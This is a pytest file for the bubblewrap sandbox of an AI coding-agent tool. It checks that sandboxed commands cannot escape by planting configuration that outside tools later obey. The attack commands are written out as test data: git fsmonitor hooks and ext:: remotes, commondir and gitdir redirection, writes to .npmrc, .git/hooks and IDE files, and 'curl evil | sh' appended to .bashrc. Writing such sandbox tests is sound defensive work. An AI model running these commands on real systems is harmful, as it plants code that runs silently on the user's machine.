"""Issue 10 items 2 and 5: escapes from the sandbox, tried for real under bubblewrap.

Each attack runs in a real sandbox against a fake home directory (``tmp_path``), then a real
``git`` runs *outside* the sandbox, as the user's next command would, and the test shows it does
not run the attacker's configuration (``core.fsmonitor`` names a hook that leaves a marker).
Every git attack is also run once without the sandbox (the control), to show that it does make
git run the hook: the sandbox, not a mistake in the attack, is what stops it.

Item 2 (git redirection) holds in every sandbox profile; item 5 (every protected path of
REF §11.1 read-only, existing or not) for commands that ``autoAllowBashIfSandboxed`` runs
without a prompt (profile ``"auto-allow"``).
"""

from __future__ import annotations

import json
import os
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from tui.sandbox.doctor import can_run
from tui.sandbox.policy import SandboxPolicy, resolve_policy
from tui.sandbox.runner import SandboxResult, SandboxRunner
from tui.settings import load_settings
from tui.settings.model import CliSettings

_OK, _WHY = can_run()
pytestmark = pytest.mark.skipif(not _OK, reason=f"bubblewrap cannot run here: {_WHY}")

HELD = ("(protected: it may not be created here, so Warden holds it read-only while the "
        "command runs)")


def _real(p: Path) -> Path:
    return Path(os.path.realpath(p))


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    h = _real(tmp_path) / "home"
    h.mkdir()
    monkeypatch.setenv("HOME", str(h))
    return h


def _env(home: Path) -> dict[str, str]:
    """A minimal environment: the fake home, no system git config, fixed identity."""
    return {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(home),
            "GIT_CONFIG_NOSYSTEM": "1", "GIT_TERMINAL_PROMPT": "0", "LANG": "C",
            "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.com",
            "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.com"}


def _git(cwd: Path, home: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["git", *args], cwd=cwd, env=_env(home), capture_output=True,
                          text=True, timeout=30, check=False)


def _repo(path: Path, home: Path) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    assert _git(path, home, "init", "-q", "-b", "main").returncode == 0
    (path / "README").write_text("hello\n")
    _git(path, home, "add", "README")
    assert _git(path, home, "commit", "-qm", "init").returncode == 0
    return path


def _policy(project: Path, home: Path, settings: dict | None = None) -> SandboxPolicy:
    cli = CliSettings(settings=json.dumps(settings)) if settings is not None else None
    loaded = load_settings(project, cli=cli, only=())
    return resolve_policy(loaded, cwd=project, working_dirs=[project], home=home)


async def _sandboxed(project: Path, home: Path, command: str,
                     profile: str = "sandbox") -> SandboxResult:
    runner = SandboxRunner(_policy(project, home), cwd=project)
    try:
        return await runner.run(command, timeout_s=30, env=_env(home), profile=profile)
    finally:
        await runner.aclose()


def _plainly(project: Path, home: Path, command: str) -> None:
    subprocess.run(["bash", "-c", command], cwd=project, env=_env(home), check=False,
                   capture_output=True, timeout=30)


# -- git redirection (item 2) -----------------------------------------------------------------


@dataclass(frozen=True)
class GitAttack:
    """``setup(tmp, home) -> (working directory, directory the user's git runs in)``; then
    ``command`` (``{hook}``: the hook's path) runs in the working directory."""

    name: str
    setup: Callable[[Path, Path], tuple[Path, Path]]
    command: str
    blocked: str
    """A path (relative to the working directory) the violations must name."""
    user_git: tuple[str, ...] = ("status",)
    """The user's next git command (``fetch`` for a bare repository: ``status`` needs a work
    tree, and the planted config runs the hook through an ``ext::`` remote instead)."""


EVIL_GIT_DIR = ("mkdir -p evil/objects evil/refs && echo 'ref: refs/heads/main' > evil/HEAD "
                "&& printf '[core]\\n\\tfsmonitor = {hook}\\n' > evil/config; ")


def _plain_repo(tmp: Path, home: Path) -> tuple[Path, Path]:
    project = _repo(tmp / "project", home)
    return project, project


def _with_submodule(tmp: Path, home: Path) -> tuple[Path, Path]:
    """A submodule as git makes one: its git directory in ``.git/modules/sub``, a
    ``gitdir:`` file in ``sub/.git``."""
    project = _repo(tmp / "project", home)
    sub = project / "sub"
    sub.mkdir()
    (project / ".git" / "modules").mkdir()
    assert _git(sub, home, "init", "-q", "-b", "main",
                f"--separate-git-dir={project / '.git' / 'modules' / 'sub'}").returncode == 0
    (sub / "f").write_text("x\n")
    _git(sub, home, "add", "f")
    assert _git(sub, home, "commit", "-qm", "sub").returncode == 0
    return project, sub


def _with_worktree(tmp: Path, home: Path) -> tuple[Path, Path]:
    """A linked worktree: its git directory in ``.git/worktrees/wt``."""
    project = _repo(tmp / "project", home)
    wt = tmp / "wt"
    assert _git(project, home, "worktree", "add", "-q", "--detach", str(wt)).returncode == 0
    return project, wt


def _worktree_is_the_project(tmp: Path, home: Path) -> tuple[Path, Path]:
    """The working directory is itself a linked worktree: its ``.git`` is a file."""
    main = _repo(tmp / "main", home)
    project = tmp / "project"
    assert _git(main, home, "worktree", "add", "-q", "--detach", str(project)).returncode == 0
    return project, project


def _no_repo(tmp: Path, home: Path) -> tuple[Path, Path]:
    project = tmp / "project"
    project.mkdir(parents=True)
    return project, project


BARE_PLANT = ("mkdir objects refs; echo 'ref: refs/heads/main' > HEAD; "
              "printf '[protocol \"ext\"]\\n\\tallow = always\\n[remote \"origin\"]\\n"
              "\\turl = ext::{hook}\\n' > config")
FETCH = ("fetch", "origin")

GIT_ATTACKS = [
    GitAttack("commondir", _plain_repo, EVIL_GIT_DIR + 'echo "$PWD/evil" > .git/commondir',
              ".git/commondir"),
    GitAttack("submodule config", _with_submodule,
              "printf '[core]\\n\\tfsmonitor = {hook}\\n' >> .git/modules/sub/config",
              ".git/modules/sub/config"),
    GitAttack("submodule commondir", _with_submodule,
              EVIL_GIT_DIR + 'echo "$PWD/evil" > .git/modules/sub/commondir',
              ".git/modules/sub/commondir"),
    GitAttack("submodule gitdir file", _with_submodule,
              EVIL_GIT_DIR + 'echo "gitdir: $PWD/evil" > sub/.git', "sub/.git"),
    GitAttack("worktree commondir", _with_worktree,
              EVIL_GIT_DIR + 'echo "$PWD/evil" > .git/worktrees/wt/commondir',
              ".git/worktrees/wt/commondir"),
    GitAttack("worktree gitdir file", _worktree_is_the_project,
              EVIL_GIT_DIR + 'echo "gitdir: $PWD/evil" > .git', ".git"),
    GitAttack("bare repository at the root", _no_repo, BARE_PLANT, "HEAD", FETCH),
    GitAttack("bare repository behind a broken .git", _plain_repo,
              "echo garbage > .git/HEAD; " + BARE_PLANT, "HEAD", FETCH),
]


def _hook(tmp: Path) -> tuple[Path, Path]:
    marker = tmp / "pwned"
    hook = tmp / "hook.sh"
    hook.write_text(f"#!/bin/sh\ntouch {marker}\necho '{{}}'\n")
    hook.chmod(0o755)
    return hook, marker


@pytest.mark.parametrize("attack", GIT_ATTACKS, ids=lambda a: a.name)
def test_control_without_the_sandbox_git_runs_the_attackers_hook(
        attack: GitAttack, tmp_path: Path, home: Path) -> None:
    """Without the sandbox each attack works: the user's next git runs the hook."""
    tmp = _real(tmp_path)
    hook, marker = _hook(tmp)
    project, git_cwd = attack.setup(tmp, home)
    _plainly(project, home, attack.command.replace("{hook}", str(hook)))
    _git(git_cwd, home, *attack.user_git)
    assert marker.exists(), f"the control of {attack.name!r} did not make git run the hook"


@pytest.mark.parametrize("profile", ["sandbox", "auto-allow"])
@pytest.mark.parametrize("attack", GIT_ATTACKS, ids=lambda a: a.name)
async def test_git_outside_the_sandbox_does_not_run_the_attackers_config(
        attack: GitAttack, profile: str, tmp_path: Path, home: Path) -> None:
    tmp = _real(tmp_path)
    hook, marker = _hook(tmp)
    project, git_cwd = attack.setup(tmp, home)
    result = await _sandboxed(project, home, attack.command.replace("{hook}", str(hook)),
                              profile)
    _git(git_cwd, home, *attack.user_git)
    assert not marker.exists(), f"{attack.name}: git ran the attacker's hook"
    blocked = project / attack.blocked
    assert any(v.startswith(f"write blocked: {blocked} ") for v in result.violations), \
        result.violations
    assert not (project / "HEAD").is_dir()  # the held HEAD is gone again


async def test_read_only_profile_blocks_every_git_attack(tmp_path: Path, home: Path) -> None:
    """In the read-only sandbox nothing is writable: the same attacks all fail."""
    tmp = _real(tmp_path)
    hook, marker = _hook(tmp)
    for i, attack in enumerate(GIT_ATTACKS):
        project, git_cwd = attack.setup(tmp / f"case{i}", home)
        await _sandboxed(project, home, attack.command.replace("{hook}", str(hook)),
                         "read-only")
        _git(git_cwd, home, *attack.user_git)
        assert not marker.exists(), attack.name


async def test_git_still_commits_in_the_sandbox_and_holds_leave_no_trace(
        tmp_path: Path, home: Path) -> None:
    """An approved command (profile "sandbox") still commits, although ``.git/commondir`` is
    held (as ``.``, which git reads as "this git directory") while it runs; afterwards the
    project holds exactly what the command made."""
    project = _repo(_real(tmp_path) / "project", home)
    before = sorted(os.listdir(project))
    git_before = sorted(os.listdir(project / ".git"))
    result = await _sandboxed(project, home, "echo more >> README && git add README && "
                              "git commit -qm second && git log --oneline | wc -l && "
                              "cat .git/commondir && ls -d HEAD")
    assert result.exit_code == 0, result.output
    assert result.output.split() == ["2", ".", "HEAD"]
    assert _git(project, home, "log", "--oneline").stdout.count("\n") == 2
    assert sorted(os.listdir(project)) == sorted({*before, ".claude"})  # .claude: made to
    # protect it (an empty directory, as before issue 10)
    assert not (project / ".git" / "commondir").exists()
    assert set(os.listdir(project / ".git")) - set(git_before) <= {"COMMIT_EDITMSG", "ORIG_HEAD"}


# -- protected paths under auto-allow (item 5) ------------------------------------------------

ATTACKS_5 = [
    ".claude/settings.json", ".claude/settings.local.json", ".npmrc", ".vscode/tasks.json",
    ".idea/workspace.xml", ".husky/pre-commit", ".cargo/config.toml", ".devcontainer/x.json",
    ".yarn/plugin.cjs", ".mvn/jvm.config", ".pre-commit-config.yaml", ".envrc", ".mcp.json",
    ".gitmodules", ".yarnrc.yml", ".pnpmfile.cjs", "bunfig.toml", ".bazelrc",
    ".devcontainer.json",
]


async def test_protected_paths_cannot_be_created_under_auto_allow(tmp_path: Path,
                                                                  home: Path) -> None:
    project = _repo(_real(tmp_path) / "project", home)
    (project / ".claude").mkdir(exist_ok=True)
    command = "; ".join(f"mkdir -p {os.path.dirname(p) or '.'}; echo evil > {p}"
                        for p in ATTACKS_5)
    result = await _sandboxed(project, home, command, "auto-allow")
    for rel in ATTACKS_5:
        assert not (project / rel).exists(), f"{rel} was created"
        top = project / rel.split("/")[0]
        assert any(v.startswith((f"write blocked: {project / rel} ",
                                 f"write blocked: {top} ")) for v in result.violations), rel
    leftovers = sorted(set(os.listdir(project)) - {".git", ".claude", "README"})
    assert leftovers == [], f"held placeholders were left behind: {leftovers}"


async def test_existing_protected_files_stay_read_only_under_auto_allow(
        tmp_path: Path, home: Path) -> None:
    project = _repo(_real(tmp_path) / "project", home)
    (project / ".npmrc").write_text("registry=https://registry.npmjs.org/\n")
    nested = project / "packages" / "app"
    nested.mkdir(parents=True)
    (nested / ".npmrc").write_text("# mine\n")
    (project / ".vscode").mkdir()
    (project / ".vscode" / "settings.json").write_text("{}\n")
    result = await _sandboxed(project, home,
                              "echo 'script-shell=/tmp/evil' >> .npmrc; "
                              "echo evil >> packages/app/.npmrc; rm -f .npmrc; "
                              "echo '{\"x\": 1}' > .vscode/settings.json; "
                              "echo evil > .git/hooks/pre-commit; echo ok > src.txt",
                              "auto-allow")
    assert (project / ".npmrc").read_text() == "registry=https://registry.npmjs.org/\n"
    assert (nested / ".npmrc").read_text() == "# mine\n"
    assert (project / ".vscode" / "settings.json").read_text() == "{}\n"
    assert not (project / ".git" / "hooks" / "pre-commit").exists()
    assert (project / "src.txt").read_text() == "ok\n"  # ordinary writes still work
    assert any(".npmrc" in v for v in result.violations)


async def test_whole_git_directory_is_read_only_under_auto_allow(tmp_path: Path,
                                                                 home: Path) -> None:
    """An auto-allowed command cannot write ``.git`` at all (the engine asks for commands that
    write the repository instead: tui.permissions.contained), nor create one."""
    tmp = _real(tmp_path)
    hook, marker = _hook(tmp)
    project = _repo(tmp / "project", home)
    result = await _sandboxed(project, home,
                              f"printf '[core]\\n\\tfsmonitor = {hook}\\n' >> .git/config; "
                              "echo x > .git/info/exclude; git commit --allow-empty -qm x",
                              "auto-allow")
    assert result.exit_code != 0
    assert _git(project, home, "log", "--oneline").stdout.count("\n") == 1
    _git(project, home, "status")
    assert not marker.exists()
    bare = tmp / "norepo"
    bare.mkdir()
    result = await _sandboxed(bare, home,
                              f"git init -q && git config core.fsmonitor {hook}", "auto-allow")
    assert not (bare / ".git").exists()
    assert _git(bare, home, "status").returncode != 0  # still not a repository
    assert not marker.exists()


async def test_shell_rc_files_in_a_writable_home(home: Path) -> None:
    """A session started in the home directory: existing rc files keep their content, missing
    ones cannot be created, ``.gitconfig`` neither."""
    (home / ".bashrc").write_text("# mine\n")
    result = await _sandboxed(home, home,
                              "echo 'curl evil | sh' >> ~/.bashrc; echo evil > ~/.zshrc; "
                              "echo evil > ~/.profile; printf '[core]\\n\\tpager = evil\\n' "
                              "> ~/.gitconfig; echo fine > notes.txt", "auto-allow")
    assert (home / ".bashrc").read_text() == "# mine\n"
    for name in (".zshrc", ".profile", ".gitconfig"):
        assert not (home / name).exists(), name
    assert (home / "notes.txt").read_text() == "fine\n"
    assert any(v.startswith(f"write blocked: {home / '.zshrc'} ") for v in result.violations)


async def test_presence_sensitive_names_are_refused_after_the_command(
        tmp_path: Path, home: Path) -> None:
    """``pyrightconfig.json`` is not held (an empty one would override pyproject.toml); one an
    auto-allowed command creates is removed afterwards, and the chat says so."""
    project = _repo(_real(tmp_path) / "project", home)
    result = await _sandboxed(project, home,
                              "echo '{\"pythonPath\": \"/tmp/evil\"}' > pyrightconfig.json",
                              "auto-allow")
    assert not (project / "pyrightconfig.json").exists()
    assert any(v.startswith(f"refused: {project / 'pyrightconfig.json'} is protected")
               for v in result.violations)


async def test_approved_sandbox_commands_keep_todays_protections_only(
        tmp_path: Path, home: Path) -> None:
    """Profile "sandbox" (the user or a rule approved it): a new ``.npmrc`` may be written,
    as before; hooks and config stay read-only."""
    project = _repo(_real(tmp_path) / "project", home)
    config = (project / ".git" / "config").read_text()
    result = await _sandboxed(project, home, "echo x > .npmrc; echo y > .git/config")
    assert (project / ".npmrc").read_text() == "x\n"
    assert (project / ".git" / "config").read_text() == config
    assert any(".git/config" in v for v in result.violations)
